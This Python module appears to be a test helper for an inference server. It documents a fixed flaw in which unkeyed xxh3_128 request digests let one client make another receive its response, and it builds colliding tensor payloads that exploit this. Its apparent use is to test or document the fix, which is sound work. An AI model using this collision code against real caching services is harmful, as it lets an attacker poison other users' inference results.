"""Two tensors that had one digest while digests were unkeyed xxh3_128: how a client that knew
another's input could make the other get its own response.

xxh3 multiplies the two halves of each 8-byte word after an exclusive or with a word of its public
secret, and adds the word itself to another sum. Where the lower halves equal the secret's, the
products are 0, so that only the sum of the two words counts.
"""

from nereid.pb import kserve_pb2

_SECRET = bytes.fromhex("b8fe6c3923a44bbe7c01812cf721ad1cded46de9839097db7240a4a4b7b3671f")
_STRIPE = 64


def colliding_payloads(head: kserve_pb2.ModelInferRequest, size_bytes: int) -> tuple[bytes, bytes]:
    """For the only input of this head; more than 240 bytes."""
    text = kserve_pb2.ModelInferRequest(inputs=head.inputs).SerializeToString(deterministic=True)
    before = len(b"%d:%si%d:" % (len(text), text, size_bytes))
    stripe = before // _STRIPE + 1
    return _payload(size_bytes, before, stripe, (7, 9)), _payload(
        size_bytes, before, stripe, (8, 8)
    )


def _payload(size_bytes: int, before: int, stripe: int, upper: tuple[int, int]) -> bytes:
    data = bytearray(size_bytes)
    for number, half in enumerate(upper, stripe):
        at = number * _STRIPE - before
        data[at : at + 8] = _SECRET[8 * number : 8 * number + 4] + half.to_bytes(4, "little")
    return bytes(data)
